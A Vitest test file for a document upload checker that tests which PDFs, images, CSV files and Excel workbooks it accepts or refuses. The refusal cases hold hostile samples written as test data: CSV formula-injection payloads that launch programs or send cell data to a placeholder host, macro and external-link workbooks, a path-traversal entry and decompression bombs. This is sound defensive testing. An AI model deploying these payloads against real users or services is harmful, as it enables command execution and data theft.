import fc from 'fast-check'
import { crc32 } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { losslessWebp, pictures } from '../../testing/media.ts'
import {
  cut as firstPart,
  exifSegment,
  holed,
  jpegSegment,
  scene,
  tiff,
  withSegments,
} from '../../testing/odd-pictures.ts'
import { activePdfs, encryptedPdf, pdfOf } from '../../testing/pdf-files.ts'
import { linksOf, relationship, typesOf, workbook, zip } from '../../testing/zip.ts'
import { inspectDocument } from './inspect.ts'

const csv = Buffer.from('Date,Text,Amount\n2026-10-01,"Card payments",1204.50\n2026-10-02,+1 (555) 010,-12\n')

const [photo, drawing, compressed] = await Promise.all([
  scene().jpeg().toBuffer(),
  scene().png().toBuffer(),
  scene().webp().toBuffer(),
])

const encrypted = await encryptedPdf(pdfOf())
const locked = await encryptedPdf(pdfOf(), { userPassword: 'x' })

const look = async (bytes: Buffer, name = 'statement.pdf') => {
  const verdict = await inspectDocument(bytes, name)
  return verdict.ok ? verdict.kind : verdict.message
}

describe('accepts', () => {
  it.each([
    ['a PDF', pdfOf(), 'pdf'],
    ['a PDF behind a byte order mark', Buffer.concat([Buffer.from('\ufeff'), pdfOf()]), 'pdf'],
    ['a PDF that opens without a password', encrypted, 'pdf'],
    ['a JPEG', Buffer.from(pictures['image/jpeg']), 'jpeg'],
    ['a PNG', Buffer.from(pictures['image/png']), 'png'],
    ['a WebP', Buffer.from(pictures['image/webp']), 'webp'],
    ['a WebP without loss', losslessWebp, 'webp'],
    ['a workbook', workbook(), 'xlsx'],
    [
      'a workbook in which one may click a link',
      workbook({ links: relationship('hyperlink', 'Target="https://bank.example" TargetMode="External"') }),
      'xlsx',
    ],
    [
      'a workbook as other programs write it',
      workbook({
        types:
          '<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>',
        parts: [
          { name: 'xl/', content: '' },
          { name: 'xl/media/image%C3%A9 1.png', content: 'x' },
          {
            name: 'xl/worksheets/_rels/sheet1.xml.rels',
            content: `\ufeff<?xml version='1.0' encoding='utf-8' ?>\r\n<!-- sheet --><p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships">
              <p:Relationship Target='/xl/drawings/drawing1.xml' Type='http://purl.oclc.org/ooxml/officeDocument/relationships/drawing' Id='r1'></p:Relationship>
              <p:Relationship Target="#'Sheet 1'!A1:B2" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink" Id="r2"/>
            </p:Relationships>`,
          },
        ],
      }),
      'xlsx',
    ],
  ])('%s, whatever it is called', async (_, bytes, kind) => {
    for (const name of ['a.pdf', 'invoice.exe', '', 'x.csv']) expect(await look(bytes, name)).toBe(kind)
  })

  it('text with the extension .csv, in UTF-8 and in Windows-1252', async () => {
    expect(await look(csv, 'Export.CSV')).toBe('csv')
    expect(await look(Buffer.from('Café;1\n', 'latin1'), 'a.csv')).toBe('csv')
    expect(await look(Buffer.from('\ufeffDate;="00012"\n'), 'a.csv')).toBe('csv')
  })

  it.each([
    ['amounts', '-12.50,+12.50,"-1,204.50",-$5,- 5.00 EUR,(12.50),-1\'204.50,−3,-5%,-1E5,-.5,+'],
    ['amounts with commas', '01.10.2026;"-1.204,50";- 12,50 €;-;--;+/-;=12,5;="a b"'],
    ['phone numbers', '+1 555 010-9999,+1 (555) 010-9999 ext. 5,+49/30/1234,+44 (0)20 7946 0000'],
    ['remarks', "- fee,-POS PURCHASE #12,- opening balance: O'Hara & Co.,+ bonus,-- total --,@handle,@ 5%"],
    ['rules', '=====,-----,+---+---+,@'],
    ['text that another program made safe', '\'=A1,\'-x(1),"\'=HYPERLINK(""x"")"'],
    ['formulas that are none', 'a=b(c),Total = SUM(A1),x@example.com (Ada),2-3 (x),f(-1)'],
    ['a name that begins like another kind of file', 'ID;Price;Date\n1;-2;3'],
    ['dates and times', '2026-10-02,10/02/2026,10:00-11:00,+02:00,-05:00'],
    ['a named separator', 'sep=;\n1;"a, b";-2'],
    ['lines in a cell', '"- first\n- second",-1'],
    ['nothing', '\n\n,,;;||\t\n'],
    ['amounts before remarks', '-12.50,Card (POS),#12\n-3,"Late fee!",http://x/#a\n="01",=1,a (b)'],
    ['phone numbers before words', '+1 555 010-9999\tAda (home)\n'],
  ])('a CSV file with %s', async (_, text) => {
    expect(await look(Buffer.from(`${text}\n`), 'a.csv')).toBe('csv')
  })

  it('a photo with the video that a phone appends', async () => {
    const moving = Buffer.concat([photo, Buffer.from('ftypmp42 a moving picture')])
    expect(await look(moving)).toBe('jpeg')
  })

  it('a slightly invalid picture', async () => {
    for (const [bytes, kind] of [
      [photo.subarray(0, -2), 'jpeg'],
      [withSegments(photo, exifSegment(tiff(9))), 'jpeg'],
      [drawing.subarray(0, -12), 'png'],
      [Buffer.concat([drawing, Buffer.alloc(9)]), 'png'],
      [Buffer.concat([losslessWebp, Buffer.alloc(8)]), 'webp'],
    ] as const)
      expect(await look(bytes)).toBe(kind)
  })
})

const hidden = (at: string, xml: string) => workbook({ parts: [{ name: at, content: xml }] })
const rels = 'xl/_rels/workbook.xml.rels'
const external = 'Target="\\\\evil\\x" TargetMode="External"'
const type = (of: string) => `<Override PartName="/xl/x.bin" ContentType="application/${of}"/>`

describe('refuses', () => {
  it.each([
    ['an empty file', Buffer.alloc(0), /empty/],
    ['a program called PDF', Buffer.from('MZ\x90\0'), /not a PDF file/],
    ['a page called PDF', Buffer.from('<html><script>'), /web page/],
    ['something before a PDF', Buffer.concat([Buffer.from('#!/bin/sh\n'), pdfOf()]), /not a PDF file/],
    ['a cut PDF', pdfOf().subarray(0, 300), /end of this PDF is missing/],
    ['a PDF that runs a script', activePdfs['a script on opening'] ?? Buffer.alloc(0), /script/],
    ['a PDF with a password', locked, /Remove the password/],
    [
      'an old or protected Office file',
      Buffer.from('d0cf11e0a1b11ae1' + '00'.repeat(600), 'hex'),
      /password/,
    ],
    ['a photo others cannot open', Buffer.from('\0\0\0\x18ftypheic\0\0\0\0', 'latin1'), /HEIC/],
    ['a cut PNG', Buffer.from(pictures['image/png']).subarray(0, 60), /damaged/],
    [
      'a PNG with an archive behind it',
      Buffer.concat([pictures['image/png'], zip([{ name: 'a', content: 'b' }])]),
      /damaged/,
    ],
    [
      'a JPEG with an archive behind it',
      Buffer.concat([pictures['image/jpeg'], zip([{ name: 'a', content: 'b' }])]),
      /damaged/,
    ],
    [
      'a JPEG with an archive and a comment behind it',
      Buffer.concat([pictures['image/jpeg'], zip([{ name: 'a', content: 'b' }], '#'.repeat(500))]),
      /damaged/,
    ],
    ['a JPEG that is none', Buffer.from('ffd8ffe0', 'hex'), /damaged/],
    ['a JPEG at 60 %', firstPart(photo, 0.6), /damaged or incomplete/],
    [
      'a photo at 60 % whose preview is whole',
      firstPart(withSegments(photo, jpegSegment(0xe1, Buffer.from('457869660000ffd8ffd9', 'hex'))), 0.6),
      /damaged or incomplete/,
    ],
    ['a PNG damaged in its middle', holed(drawing, 0.5, 40), /damaged/],
    ['a WebP at 60 %', firstPart(compressed, 0.6), /damaged/],
    [
      'a WebP with an archive behind it',
      Buffer.concat([losslessWebp, zip([{ name: 'a', content: 'b' }])]),
      /damaged/,
    ],
  ])('%s', async (_, bytes, why) => {
    expect(await look(bytes)).toMatch(why)
  })

  it('a small file that decodes to a huge picture', async () => {
    const bomb = Buffer.from(pictures['image/png'])
    for (const [width, height] of [
      [30_000, 10],
      [15_000, 15_000],
    ] as const) {
      bomb.writeUInt32BE(width, 16)
      bomb.writeUInt32BE(height, 20)
      expect(await look(bomb)).toMatch(/too large/)
    }
  })

  it.each([
    ['two ends', Buffer.concat([workbook(), zip([{ name: 'a', content: 'b' }])]), /not an Excel|damaged/],
    ['a comment behind it', zip([{ name: 'a', content: 'b' }], 'PK\x05\x06'), /damaged/],
    ['no workbook', zip([{ name: 'word/document.xml', content: '<w/>' }]), /damaged/],
    [
      'a Word document',
      hidden(
        '[Content_Types].xml',
        typesOf(
          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
        ),
      ),
      /not an Excel/,
    ],
    ['macros by type', workbook({ types: type('vnd.ms-office.vbaProject') }), /macros/],
    [
      'macros by default type',
      workbook({
        types: '<Default Extension="Bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        parts: [{ name: 'xl/a.bIN', content: 'x' }],
      }),
      /macros/,
    ],
    [
      'macros by the type of an ending with a dot',
      workbook({
        types: '<Default Extension=".bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        parts: [{ name: 'xl/a.bin', content: 'x' }],
      }),
      /damaged/,
    ],
    ['a macro workbook', workbook({ types: type('vnd.ms-excel.sheet.macroEnabled.main+xml') }), /macros/],
    ['macro sheets', workbook({ types: type('vnd.ms-excel.macrosheet+xml') }), /macros/],
    ['macros by link', workbook({ links: relationship('vbaProject') }), /macros/],
    ['embedded files', workbook({ links: relationship('package') }), /embedded/],
    ['embedded objects', workbook({ links: relationship('oleObject') }), /embedded/],
    ['controls', workbook({ links: relationship('control') }), /embedded/],
    ['links to other workbooks', workbook({ links: relationship('externalLink') }), /links/],
    ['data connections', workbook({ links: relationship('connections') }), /links/],
    ['pictures from elsewhere', workbook({ links: relationship('image', external) }), /links/],
    ['a template from elsewhere', workbook({ links: relationship('attachedTemplate', external) }), /links/],
    [
      'a link behind a > in another attribute',
      hidden(rels, linksOf(`<Relationship Id="a>b" Type="x/image" ${external}/>`)),
      /links/,
    ],
    [
      'a link behind other quotes',
      hidden(rels, linksOf(`<Relationship Id=' Type="x/hyperlink"' Type='x/image' ${external}/>`)),
      /links/,
    ],
    [
      'a link in another alphabet',
      workbook({ parts: [{ name: rels, content: Buffer.from(linksOf(''), 'utf16le') }] }),
      /damaged/,
    ],
    ['a link in numbers', hidden(rels, linksOf(`<Relationship Type="x/vba&#80;roject"/>`)), /macros/],
    ['a link that cannot be read', hidden(rels, linksOf('<Relationship Type=x/>')), /damaged/],
    ['a password', workbook({ parts: [{ name: 'xl/a.xml', content: 'x', flags: 1 }] }), /password/],
    ['the same part twice', workbook({ parts: [{ name: 'XL/workbook.xml', content: 'x' }] }), /damaged/],
    ['a way out', workbook({ parts: [{ name: '../../etc/passwd', content: 'x' }] }), /damaged/],
    ['a wrong checksum', workbook({ parts: [{ name: 'xl/a.xml', content: 'x', checksum: 1 }] }), /damaged/],
    [
      'a part larger than it says',
      workbook({ parts: [{ name: 'xl/a.xml', content: 'xyz', claims: 1 }] }),
      /damaged/,
    ],
    [
      'a part that says it is huge',
      workbook({ parts: [{ name: 'xl/a.xml', content: 'x', claims: 4_000_000_000 }] }),
      /too large to check/,
    ],
    [
      'a bomb',
      workbook({
        parts: [1, 2, 3].map((n) => ({ name: `xl/${n}.xml`, content: Buffer.alloc(100 * 1024 * 1024) })),
      }),
      /too large to check/,
    ],
    [
      'too many parts',
      workbook({ parts: Array.from({ length: 3001 }, (_, n) => ({ name: `xl/${n}`, content: '' })) }),
      /too large to check/,
    ],
  ])('a workbook with %s', async (_, bytes, why) => {
    expect(await look(bytes)).toMatch(why)
  })

  const prefixed = (xml: string) =>
    xml.replaceAll(/<(\/?)(?=[A-Z])/g, '<$1é:').replace(' xmlns=', ' xmlns:é=')
  it.each([
    ['macros', hidden('[Content_Types].xml', prefixed(typesOf(type('vnd.ms-office.vbaProject'))))],
    ['a link to a program', hidden(rels, prefixed(linksOf(relationship('externalLink'))))],
    ['a link to another computer', hidden(rels, prefixed(linksOf(relationship('image', external))))],
  ])('a workbook with %s under a prefix that is not ASCII', async (_, bytes) => {
    expect(await look(bytes)).toMatch(/macros, embedded files or links/)
  })

  const link = relationship('worksheet')
  const strict = (of: string) =>
    `<Relationship Id="a" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/${of}" Target="x"/>`
  it.each([
    ['of the strict kind', linksOf(strict('oleObject')), /macros/],
    ['of the strict kind to a file of another program', linksOf(strict('package')), /macros/],
    ['with blanks around its kind', linksOf(relationship('package ')), /macros/],
    ['with an escaped kind', linksOf(relationship('ole%4Fbject')), /damaged/],
    ['inside that leads out', linksOf(relationship('worksheet', 'Target="file://x/y"')), /links/],
    ['inside to another computer', linksOf(relationship('worksheet', 'Target="//x/y"')), /links/],
    ['inside to a share', linksOf(relationship('worksheet', 'Target="\\\\x\\y"')), /links/],
    ['in small letters that leads out', linksOf(relationship('image', 'TargetMode="external"')), /links/],
    [
      'to click that opens a file',
      linksOf(relationship('hyperlink', 'Target="file:///x" TargetMode="External"')),
      /links/,
    ],
    ['below an unknown element', linksOf(`<x>${link}</x>`), /damaged/],
    ['below another', linksOf(`<Relationship Type="a/b">${link}</Relationship>`), /damaged/],
    ['of another namespace', linksOf(link).replace('package/2006/', 'package/2007/'), /damaged/],
    ['of no namespace', '<Relationships/>', /damaged/],
    ['under a prefix that nothing declares', linksOf('<a:Relationship Type="a/b"/>'), /damaged/],
    [
      'with an attribute of another namespace',
      linksOf(`<Relationship xmlns:a="a" a:Type="a/b"/>`),
      /damaged/,
    ],
    ['twice the same attribute', linksOf('<Relationship Type="a/b" Type="a/c"/>'), /damaged/],
    [
      'in a declared type',
      `<!DOCTYPE r [<!ENTITY x "y">]>${linksOf('').replace(/^<\?.*?\?>/, '')}`,
      /damaged/,
    ],
    ['with an entity nothing declares', linksOf('&x;'), /damaged/],
    ['behind an instruction', linksOf('<?x y?>'), /damaged/],
    ['in two roots', `${linksOf('')}<x/>`, /damaged/],
    ['in another alphabet', linksOf('').replace('UTF-8', 'UTF-7'), /damaged/],
    ['in another version', linksOf('').replace('"1.0"', '"1.1"'), /damaged/],
    ['behind two marks of order', `\ufeff\ufeff${linksOf('')}`, /damaged/],
    ['in UTF-16', Buffer.from(`\ufeff${linksOf('')}`, 'utf16le'), /damaged/],
    ['with half a letter', Buffer.from(`<a>é`).subarray(0, -1), /damaged/],
    ['in nothing', '', /damaged/],
  ])('a workbook with a link %s', async (_, content, why) => {
    expect(await look(workbook({ parts: [{ name: rels, content }] }))).toMatch(why)
  })

  const otherName = (from: string, to: string): Buffer => {
    const sum = Buffer.alloc(5, 1)
    sum.writeUInt32LE(crc32(from), 1)
    const head = Buffer.from([0x75, 0x70, sum.length + to.length, 0])
    return Buffer.concat([head, sum, Buffer.from(to)])
  }
  const ole = linksOf(relationship('oleObject'))
  it.each([
    ['in other letters', { name: 'xl/_RELS/WORKBOOK.XML.RELS', content: ole }],
    ['with an escaped letter', { name: 'xl/_rels/workbook.xml.%72els', content: ole }],
    ['with an escaped bracket', { name: '%5BContent_Types%5D.xml', content: ole }],
    ['with a letter that is only alike', { name: 'xl/_rels/workbook.xml.relſ', content: ole }],
    ['with a NUL', { name: 'xl/_rels/workbook.xml.rels\0.txt', content: ole }],
    ['in pieces', { name: 'xl/_rels/workbook.xml.rels/[0].piece', content: ole }],
    ['where its bytes lie', { name: 'xl/a.txt', localName: 'xl/_rels/b.rels', content: ole }],
    [
      'in its extra fields',
      { name: 'xl/_rels/b.rels', extra: otherName('xl/_rels/b.rels', 'xl/b.txt'), content: ole },
    ],
  ])('a workbook with a part that has another name %s', async (_, part) => {
    expect(await look(workbook({ parts: [part] }))).toMatch(/damaged|macros/)
  })

  it('a workbook whose list of parts ends before it ends', async () => {
    const bytes = workbook({ parts: [{ name: 'xl/_rels/z.rels', content: ole }] })
    const count = bytes.readUInt16LE(bytes.length - 12)
    bytes.writeUInt16LE(count - 1, bytes.length - 12)
    bytes.writeUInt16LE(count - 1, bytes.length - 14)
    expect(await look(bytes)).toMatch(/damaged/)
  })

  it.each([
    ['bytes', Buffer.from('a,b\0c\n'), /not plain text/],
    ['two bytes a letter', Buffer.from('a,b\n', 'utf16le'), /not plain text/],
    ['a page', Buffer.from('  <table><tr>'), /web page/],
    ['a page of mail', Buffer.from('MIME-Version: 1.0\n'), /another kind of file/],
    [
      'an older workbook',
      Buffer.from('ID;PWXL;N;E\nC;X1;Y1;K0;EWEBSERVICE("http://x")\n'),
      /another kind of file/,
    ],
    ['two wide bytes a letter', Buffer.from('\ufeff＠ＡＢ（１）', 'utf16le'), /not plain text/],
    ['a mark as separator', Buffer.from('sep="\na"=1\n'), /not plain text/],
    ['two separators', Buffer.from('sep=,;\na,=1\n'), /not plain text/],
  ])('a CSV file with %s', async (_, bytes, why) => {
    expect(await look(bytes, 'a.csv')).toMatch(why)
  })

  const call = 'HYPERLINK("http://x")'
  it.each([
    ['a call of a program', "a,=cmd|'/C calc'!A0\n", 1, 2],
    ['a call of a function', 'a;"=HYPERLINK(""http://x"")"\n', 1, 2],
    ['one behind a sign', 'a\tb\nc\t+WEBSERVICE("http://x")\n', 2, 2],
    ['one at its start', '@SUM(1)\n', 1, 1],
    ['a call of a program and nothing else', "+cmd|' /C calc'!A0\n", 1, 1],
    ['one with a wide mark', "x\n@cmd|'/C calc'！A0\n", 2, 1],
    ['one behind a decimal comma', '+1,5&WEBSERVICE("http://x")\n', 1, 1],
    ['one behind a tab', 'a\n+1\t&WEBSERVICE ("http://x")\n', 2, 1],
    ['one on a line of numbers', '=1,5/cmd|x!A0\n', 1, 1],
    ['a semicolon in a path, for commas', 'a;b\n-file:///x;y#Sheet1.A1\n', 2, 1],
    ['a comma in a text before it', '"=""a,b""&WEBSERVICE(""http://x/?x=""&A1)"\n', 1, 1],
    ['a semicolon in a text before it', `a,"=1&""x;y""&${call.replaceAll('"', '""')}"\n`, 1, 2],
    ['a bar between cells', `sep=|\nfoo|=${call}|3\n`, 2, 2],
    ['a blank before the parenthesis', 'a,b\n=HYPERLINK ("http://x"),1\n', 2, 1],
    ['a call of a program behind a text', `"=""x,""&cmd|'/C calc'!A0"\n`, 1, 1],
    ['another separator that it names', `"sep=^"\r\na^b\r\nc^=${call}\r\n`, 3, 2],
    ['a blank as separator', `sep= \na =A1\n`, 2, 2],
    ['a bar that it does not name', `a,b\nc,d|=A1\n`, 2, 2],
    ['quotes that only commas heed', `a,"b;=${call.replaceAll('"', '""')}"\n`, 1, 2],
    ['commas and semicolons at once', `x,"y";=A1\n`, 1, 2],
    ['a quote that never closes', `a,b\n"=${call.replaceAll('"', '""')}\n`, 2, 1],
    ['one on a line within a cell, for semicolons', `a;b\nc,"d\n=A1"\n`, 3, 1],
    ['one behind blanks', ' \u00a0\t=A1\n', 1, 2],
    ['one behind quotes', '"""=A1"\n', 1, 1],
    ['one behind characters without width', '\u200b\u2060=A1\n', 1, 1],
    ['one behind a second mark of order', '\ufeff\ufeff=A1\n', 1, 1],
    ['one in wide characters', 'a,＝ＷＥＢＳＥＲＶＩＣＥ（１）\n', 1, 2],
    ['one behind a wide sign', 'a,＋ＡＢ（１）\n', 1, 2],
    ['one after an old line end', 'a\r=A1\r', 2, 1],
    ['one in parentheses behind a phone number', `+1 (555) ${call}\n`, 1, 1],
    ['one within parentheses', `+1 (${call})\n`, 1, 1],
    ['one in other letters', '-СУММ(1)\n', 1, 1],
    ['one of several signs', '-+-@SUM (1)\n', 1, 1],
    ['one with digits at its end', '-LOG10(1)\n', 1, 1],
    ['a reference to another file', "-'\\\\10.0.0.1\\5\\[6]7'!1:1\n", 1, 1],
    ['one to a name in it', '+book.xlsx!name\n', 1, 1],
    ['one as LibreOffice writes it', "-'file:///x'#$Sheet1.A1\n", 1, 1],
    ['one as it may be written', '-file:///x#Sheet1.A1\n', 1, 1],
    ['a reference', 'a,=A1\n', 1, 2],
    ['two texts', '="a"&"b"\n', 1, 1],
    ['a text that ends early', '"=""a""&A1&"""\n', 1, 1],
    ['a sign before more than a cell holds', `a,-${'b'.repeat(32_768)}\n`, 1, 2],
  ])('a CSV file with a formula, and says where: %s', async (_, text, row, column) => {
    expect(await look(Buffer.from(text), 'a.csv')).toContain(
      `Row ${row}, column ${column} begins with a symbol`,
    )
  })

  it.each([
    ['a CSV file of signs', Buffer.from('－a,'.repeat(2_000_000)), 'csv'],
    ['a CSV file of separators', Buffer.from(',;\t|'.repeat(2_000_000)), 'csv'],
    [
      'a workbook of links',
      workbook({ links: '<Relationship Type="a" Target="b"/>'.repeat(200_000) }),
      'xlsx',
    ],
  ])('or accepts the largest files without blocking others: %s', async (_, bytes, kind) => {
    const before = process.threadCpuUsage()
    expect(await look(bytes, 'a.csv')).toBe(kind)
    const { user, system } = process.threadCpuUsage(before)
    expect((user + system) / 1000).toBeLessThan(250)
  })

  it('or accepts any randomly changed file, without an error', async () => {
    const samples = [workbook(), pdfOf(), ...Object.values(pictures).map((bytes) => Buffer.from(bytes))]
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...samples),
        fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 }),
        fc.boolean(),
        async (sample, changes, cut) => {
          const bytes = Buffer.from(sample)
          for (const [at, value] of changes) bytes[at % bytes.length] = value
          const tried = cut ? bytes.subarray(0, (changes[0]?.[0] ?? 0) % bytes.length) : bytes
          expect(await look(tried, 'a.csv')).toMatch(/./)
        },
      ),
      { numRuns: 60 },
    )
  })
})
